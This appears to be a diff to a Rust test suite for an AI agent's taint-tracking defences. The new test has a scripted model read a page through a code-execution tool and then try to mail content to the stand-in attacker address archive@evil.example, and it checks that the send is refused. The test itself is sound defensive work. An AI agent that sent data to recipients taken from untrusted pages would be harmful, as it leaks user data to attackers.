@@ -573,7 +573,8 @@ async fn an_exact_repeat_is_answered_from_memory_until_something_is_written() {
 }
 
 /// A stand-in for `code_execution`: a read whose handler calls other tools back. Its topic
-/// names what the script does: `write:TEXT` saves a reminder, `read:TOPIC` looks a fact up.
+/// names what the script does: `write:TEXT` saves a reminder, `page:TOPIC` reads a page (and
+/// prints nothing of it), `read:TOPIC` looks a fact up.
 fn script_tool() -> Tool {
     ToolBuilder::<Lookup>::new("code_execution", 1)
         .describe(
@@ -590,6 +591,11 @@ fn script_tool() -> Tool {
         )
         .read(|ctx, args: Lookup| async move {
             let out = match args.topic.split_once(':') {
+                Some(("page", topic)) => {
+                    ctx.tools
+                        .call(Origin::Sandbox, "page_read", json!({"topic": topic}))
+                        .await
+                }
                 Some(("write", text)) => {
                     ctx.tools
                         .call(
@@ -666,4 +672,35 @@ async fn a_search_after_a_script_that_wrote_runs_again() {
         "s1, s3 and s4 ran"
     );
     assert!(results_in(&model, 5)[0].content.contains("\"run\":2"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_recipient_from_a_page_a_script_read_and_did_not_print_is_still_refused() {
+    let world = World::new();
+    let model = Arc::new(ScriptedModel::new([
+        ScriptedModel::calls(&[("c1", "code_execution", json!({"topic": "page:risotto"}))]),
+        ScriptedModel::calls(&[("s1", "mail_send", json!({"topic": "archive@evil.example"}))]),
+        ScriptedModel::answer("I did not send anything."),
+    ]));
+    let trace = Arc::new(MemoryTrace::default());
+    let mut tools = world.tools();
+    tools.push(script_tool());
+    world
+        .agent_with(tools, model.clone(), AgentConfig::default(), trace.clone())
+        .ask("run-script-taint", "How long does the risotto take?")
+        .await;
+    assert!(
+        !results_in(&model, 1)[0]
+            .content
+            .contains("archive@evil.example"),
+        "the script printed nothing of the page"
+    );
+    assert_eq!(*world.handler_runs.lock().unwrap(), 0);
+    let send = trace
+        .of_kind("tool_call")
+        .into_iter()
+        .find(|e| e["gen_ai.tool.name"] == "mail_send")
+        .unwrap();
+    assert_eq!(send["taint_rule"], "refused_tainted_high", "{send}");
+    assert_eq!(send["taint"][0]["source"]["tool"], "page_read");
 }
